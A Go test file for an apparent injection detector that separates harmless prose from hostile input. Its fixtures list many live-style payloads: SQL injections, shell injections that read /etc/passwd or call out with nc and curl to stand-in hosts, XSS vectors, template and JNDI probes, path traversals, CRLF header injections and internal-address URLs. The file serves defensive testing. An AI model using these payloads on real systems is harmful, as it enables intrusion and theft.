package payload

import (
	"encoding/base64"
	"math/rand/v2"
	"net/url"
	"strings"
	"testing"
)

// data are texts that people send, with the kinds that must say so. Word lists
// take each for an attack of one of these kinds.
var data = map[Kind][]string{
	SQL: {
		"O'Neill thinks so, and D'Arcy doesn't", "Can't trim() Char(13) there?", "4. Create a certificate\n-----------------------",
		"Document '{}' successfully deleted", "The page has `{{ title }}` near that word", "title of the year > all others", "Jean Jr., PhD", "Set notation isn't hard (really)",
		"The table's columns: id, name, price", "It's for the best price we found",
	},
	Shell: {
		"<(^_^)>", "compare & update it", "the ${name} is put in", "Sh, said Anna", "a > b and c < d", "Cats & dogs; mice | men", "* one\r\n* two (or three)", "[link](https://www.example.com/a_b) (PDF)", "'{}' is already registered", "costs $5 (or €4)",
		"(see above) we moved on\r\nbut nobody noticed", "if 3 == x then y = 4", "# Heading\r\n\r\ntext `name` here", "and/or; either/or", "ls 300 is a car", "cat is the best pet of all & so are dogs",
	},
	HTML: {"a <3 b", "</3", "x <- y; z -> w", "1<2", "the <b>best</b> of all", "style: none; on: off", "JavaScript: the good parts", "a && b || c", "price<5"},
	Script: {
		"Bob's window.alert hangs on load", "the document.cookie of Anna's page", "Is innerHTML = x a good idea?", "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ",
	},
	Code: {"the eval function of Python isn't safe", "I can't call system() there"},
	Path: {
		"../ is the folder above", "See ../ and ./ in the docs", "the .htaccess of our site", "/tmp/upload/2026", "/tmp/list.png", "/srv/library/books", `C:\Users\kim\Pictures\a.png`, "Parsing it from ./config.py was wrong", "wait.../ what?", "/me waves", "https://example.com/a/../b",
	},
	Header:   {"line one\nline two: with a colon\n", "Dear all,\r\nplease read this: it is new.\r\n-- \r\nKim"},
	NoSQL:    {"it costs $5", "in [brackets] and {braces} of words"},
	Template: {"a {b} c", "100 % {x}", "# Heading {it}", "$x + $y"},
}

func TestInert(t *testing.T) {
	for kind, list := range data {
		for _, text := range list {
			if !Inert(text).Has(kind) {
				t.Errorf("%v could make something of %q", kind, text)
			}
		}
	}
}

// loaded are texts of which an interpreter would make something in some
// position, whatever else is in them.
var loaded = map[Kind][]string{
	SQL: {
		"1 < 2 and 3 > 2", "a = a", "1 or 1", "O'Neill' or 1=1-- ", "x'", "x\\", "kim' and 'a'='a", "kim'-- ", "kim'#", "it''s", "don't' or id like 'a", "name desc, id", "id from staff where a = b", "x' if 1=1 shutdown", "x' exec sp_who", "x' in (1,2)", "1 as a from staff", "a', 'b", "x' collate nocase", "x', (select 1)) -- ",
		"Anna's' || name || '", "1;drop table staff", "date '2020-01-01' or 1=1", "text 'a' or 1=1", "x\" || \"a", "x\"('a') or 1=1", "x` where 1=1 -- ", "/*!50000 or*/ 1=1", "x' /*", "x' limit 1", "+or+1=1-- ", "x%27 or 1=1-- ", "ʼ or 1=1-- ", "x' order by 1", "case when 1=1 then 1 end", "not null", "(select 1)",
		"--1 union select name from staff/*\nfoo bar baz */", "--1 or sleep(5)/*\nthis is a text */", "#/*\nfoo bar baz */ or 1=1",
		"1 select your.secret from staff your", "1 delete her from staff her", "1 delete her from staff her where 1=1", "1 update her set role=1 from staff her", "1 select the pw from (select secret the from staff) x",
		"0 or 1 between symmetric 0 and 9", "x' or 1 between symmetric 0 and 9-- ", "0 or '1' is json scalar", "1 in (select sql_small_result secret pw from staff)",
		// Seen by PostgreSQL's own parser: constants of a type, operators of several signs.
		"x' or bool 't", "x' or boolean 'on", "x' or x'31", "x' or n'1", "x' or name < text 'z", "x' or 'y' @@ 'y", "x' or name @@ 'y", "x' or tags @> '{}", "1 or |/ 4 > 1", "x' or tags ?& '{a}", "x' ->> '' @> '1",
	},
	Shell: {
		"a; id", "a|sort", "a && env", "$(id)", "a `uname` b", "a\nwhoami", "a & netsh firewall show", "a; /tmp/x", "a; ./run", "a > /tmp/x", "a < /etc/passwd", "$HOME", "${IFS}", "%PATH%", "a; X=1 id", "a; w'h'oami", "a; w^hoami", "a; wh\\oami", "a; /b?n/c?t x", "-rf x", "--exec x", "a; then id", "a; ! id", "{ id; }", "a; sudo ls", "time ls -la", "; cat the dog ate", "a\ncat notes.txt", "(curl h.example)", "; $x id", "a; 1>x id", "reboot", "id", "rm -rf x", "(sleep 5)",
		"a; python3.11 -c x", "a; nc.traditional -e sh h 1", "a; ruby3.1 x", "a | gcc-12 x.c", "hello; id", "hello there; env", "hello\nid", "Dear all,\nreboot",
	},
	HTML: {"<img src=x>", "<b onclick=x>", "x onload=y", "<!-- x", "<b", "x\" style=y", "javascript:alert(1)", "java\tscript:alert(1)", "data:text/html,x", "<a href=x>", "<?php", "x style = y", "&lt;img src=x onerror=y&gt;", "x <svg/onload=y"},
	Script: {"';alert(1)//", "x';y()//", "`${alert(1)}`", "alert(1)", "</script>", "x\\", "a=b", "x\n--> y\nalert(1)", "import x from 'y'", "=/one two/.x()", "x /*\n*/ y()", "x'-y-'", "javascript:x()",
		// Behind an app's own //.
		"two words\nx()", "a (b c)\r\nlocation=name", "hello there\rx`y`", "one two\nnew Thing"},
	Code:     {"<?php x", "x()", "__import__('x')", "import os\nx()", "'.x().'", "print x()"},
	Template: {"{{ x }}", "${x}", "{% x %}", "#{x}", "<%= x %>", "#set($x = 1)", "[[${x}]]", "@(x)"},
	Path:     {"../x", "..\\x", "a/../../x", "/etc/x", "~/x", "/var/log/x", "C:x", "file:///x", "..%2fx", "0x2e0x2e0x2fx", "/tmp/sess_1", "/tmp/.x", "config.py", ".env", "/srv/app.py", "type C:\\x", "//host/x", "/opt/x/conf/y.txt", ".\\/\\.\\./x", "..;/x"},
	Header:   {"a\r\nGET /x HTTP/1.1\r\nb", "a\r\nSet-Cookie: b", "a\nX-Y: b", "a\nBcc: b@c", "a\nHTTP/1.1 200 OK", "a\nA1 LOGIN x y", "a\nQUIT", "a%0d%0aLocation: b", "it's a\r\nAge: 5", "it's a\r\nset k 0 0 5", "it's a\r\nDEL a", "it's\r\n*1\r\n$4"},
	NoSQL:    {"[$ne]", "{$gt: 1}", "x'; return 1"},
}

func TestNotInert(t *testing.T) {
	for kind, list := range loaded {
		for _, text := range list {
			if Prose(text) {
				continue // as its words are all that it is
			}
			if Inert(text).Has(kind) {
				t.Errorf("nothing for %v in %q", kind, text)
			}
			// Wrapped it is no less.
			if w := base64.StdEncoding.EncodeToString([]byte(text)); len(text) >= 12 && kind != Path && Inert(w).Has(kind) {
				t.Errorf("nothing for %v in Base64 of %q", kind, text)
			}
			if w := url.PathEscape(text); w != text && Inert(w).Has(kind) {
				t.Errorf("nothing for %v in %q", kind, w)
			}
		}
	}
	for kind, list := range attacks {
		for _, text := range list {
			if Inert(text).Has(kind) {
				t.Errorf("nothing for %v in %q", kind, text)
			}
		}
	}
	for _, text := range []string{"", "a\xffb", "a\x00b", "a\x1bb", strings.Repeat("ab' ", maxInert)} {
		if k := Inert(text); k != 0 {
			t.Errorf("%.20q: %b", text, k)
		}
	}
}

// carried are attacks that bring what they need to break out of what is before
// them, and leave nothing of what is behind.
var carried = map[Kind][]string{
	SQL:      {"' or 1=1-- ", "\" or 2>1-- ", "') union select name from staff-- ", "'; drop table staff-- ", "' or 'a'='a' /*"},
	Shell:    {"; id #", "| cat /etc/passwd #", "`id`", "$(id)", "& whoami & ", "\nid\n"},
	HTML:     {"<script>go()</script>", "<img src=x onerror=go()>", "\" onload=go() x=\"", "<svg/onload=go()>"},
	Script:   {"</script>", "';go()//", "`;go()//"},
	Template: {"{{7*7}}", "{% debug %}", "${7*7}", "<%= 7*7 %>"},
	Path:     {"/../../../../../../../etc/x"},
	Header:   {"\r\nSet-Cookie: a=b\r\n"},
}

// loose says that an attack falls apart in what is around it, or that this is
// prose in any case: a script's comment ends with the line, and the next one
// need not be a program.
func loose(kind Kind, whole string) bool {
	return kind == Script && strings.ContainsAny(whole, "\r\n\u2028\u2029") || Prose(whole)
}

// TestCarried puts attacks into honest texts, at any place.
func TestCarried(t *testing.T) {
	chance := rand.New(rand.NewPCG(1, 2))
	for range 4000 {
		for kind, list := range carried {
			text, attack := honest[chance.IntN(len(honest))], list[chance.IntN(len(list))]
			at := chance.IntN(len(text) + 1)
			if whole := text[:at] + attack + text[at:]; Inert(whole).Has(kind) && !loose(kind, whole) {
				t.Fatalf("nothing for %v in %q", kind, whole)
			}
		}
	}
}

func BenchmarkInert(b *testing.B) {
	run := func(name, text string) {
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(text)))
			for b.Loop() {
				Inert(text)
			}
		})
	}
	run("sentence", "O'Reilly and Sons, 5 or 6 people (second floor)")
	run("prose", strings.Repeat("Please send comments (if any) to ann@example.org; it's due soon: ", 125))
	for _, seed := range []string{"'", "(", ";", "; ", "{a,", "{", "#a", "a' b", "' a,", "javascript: a b ", "<b>", "$a", "&amp;", "%41", "a=", "../a b c/", "\na:", "> ", "time ", "X=1 ", "`", "or ", "a'b\"c`"} {
		run("hostile/"+seed, strings.Repeat(seed, 8000/len(seed)))
	}
}

func TestFormula(t *testing.T) {
	for _, text := range []string{"1 < 2 and 3 > 2", "56+sin(m)=x²", "(m²)/(5f)", "sqrt(z)!=68-n_2", "f(k)>x×sqrt(z)", "a <= b", "if x == 2 then y = 3"} {
		if !Formula(text) {
			t.Errorf("%q is none", text)
		}
	}
	for _, text := range []string{"1 or 2>1", "1 and 3>2", "' or 1<2", "1<2--", "1<2 or sleep(5)", "1 < (select 1)", "id < 5 and name > 3", "1=1;x", "1<2 or user()>1", "exp(9)>1", "a<2 union b", "1 or 1", "x || 1=1", "1<2#"} {
		if Formula(text) {
			t.Errorf("%q is one", text)
		}
	}
}

// TestRandom: what password managers make is random by its look, and nothing
// that runs something is.
func TestRandom(t *testing.T) {
	letters := "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
	printable := ""
	for c := byte('!'); c < 0x7f; c++ {
		printable += string(rune(c))
	}
	chance := rand.New(rand.NewPCG(8, 32))
	looked, judged := 0, 0
	for n := range 20000 {
		alphabet := []string{letters, letters + "!@#$%^&*", letters + "-_.~", printable}[n%4]
		b := make([]byte, 10+chance.IntN(23))
		for i := range b {
			b[i] = alphabet[chance.IntN(len(alphabet))]
		}
		text := string(b)
		if !strings.ContainsAny(text, letters[:26]) || !strings.ContainsAny(text, letters[26:52]) || !strings.ContainsAny(text, letters[52:]) {
			continue
		}
		looked++
		if !Random(text) && Judge(text, Text) != nil {
			judged++
			t.Logf("%q is judged: %v", text, Judge(text, Text)[0].Shape)
		}
	}
	if looked < 15000 || judged > 6 {
		t.Errorf("%d of %d are judged", judged, looked)
	}
	for _, text := range []string{"Aa1'||1=1#xx", "$(id)Aa12345", "{{7*7}}Aa1xx", "${jndi:ldap://x}X1", "`id`Aa12345", "{%x%}Aa12345", "<svg/onload=go(1)>Aa1", "Aa1'/**/union/**/select/**/1#", "Aa1';drop/**/table/**/x--", "Aa1'or'1'='1", "Aa1admin'--", "Aa1'-sleep(5)#", "${7*7}Aa12345", "Aa1|curl${IFS}x.y", "<%=7*7%>Aa12", "Aa1;/bin/cat<x", "$(/usr/bin/id)A1", "${env:PATH}Aa123"} {
		if Random(text) {
			t.Errorf("%q is random", text)
		}
	}
}

func TestLink(t *testing.T) {
	for _, text := range []string{"https://www.example.com/a?b=c#d", "http://example.org", "see https://www.example.com/", "* [a](https://example.com)", "https://example.com is new"} {
		if !Link(text) {
			t.Errorf("%q leads somewhere else", text)
		}
	}
	for _, text := range []string{"", "http://localhost/", "http://10.0.0.1/", "http://[::1]/", "http://2130706433/", "http://user@example.com/", "http://example.com:22/", "http://db.internal/", "http://10.0.0.1.nip.io/", "http://10-0-0-1.example.com/", "ftp://example.com/", "file:///etc/passwd", "//example.com/", "http://metadata.google.internal/", "gopher://example.com/ x", "http:\\\\example.com", "http://ex%61mple.com/", "url:http://example.com/"} {
		if Link(text) {
			t.Errorf("%q is a link", text)
		}
	}
}

func FuzzInert(f *testing.F) {
	for _, from := range []map[Kind][]string{attacks, loaded, data, carried} {
		for _, list := range from {
			for _, text := range list {
				f.Add(text, uint16(3), uint8(1))
			}
		}
	}
	f.Fuzz(func(t *testing.T, text string, at uint16, which uint8) {
		inert := Inert(text)
		for _, x := range Judge(text, Text) {
			if inert.Has(x.Kind) {
				t.Fatalf("%q: nothing for %v, which sees %s in it", text, x.Kind, x.Shape)
			}
		}
		if len(text) > 512 {
			return
		}
		for kind, list := range carried {
			i := int(at) % (len(text) + 1)
			if whole := text[:i] + list[int(which)%len(list)] + text[i:]; Inert(whole).Has(kind) && !loose(kind, whole) {
				t.Fatalf("nothing for %v in %q", kind, whole)
			}
		}
		Formula(text)
		Link(text)
		Random(text)
	})
}

// TestCutTokens: a word that ends where a piece of the text does is no other
// word, so that a program is not taken for prose by it.
func TestCutTokens(t *testing.T) {
	for _, word := range []string{"instanceof", "in"} {
		for pad := range 120 {
			program := strings.Repeat("a", pad) + "+x " + word + " y;x()"
			if jsBreaks(program, false) {
				t.Fatalf("%q is no program", program)
			}
		}
	}
}
